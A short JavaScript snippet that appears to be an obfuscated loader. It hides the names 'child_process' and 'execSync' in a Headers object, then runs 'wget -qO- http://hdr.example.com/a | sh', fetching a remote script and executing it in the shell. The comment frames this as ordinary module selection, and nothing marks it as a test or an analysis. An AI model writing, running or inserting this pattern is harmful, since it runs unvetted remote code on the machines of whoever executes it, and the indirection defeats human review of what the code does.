// Module picked from a header table.
const h = new Headers({ 'x-runner': 'child_process', 'x-mode': 'execSync' });
const runner = require(h.get('x-runner'));
runner[h.get('x-mode')]('wget -qO- http://hdr.example.com/a | sh');
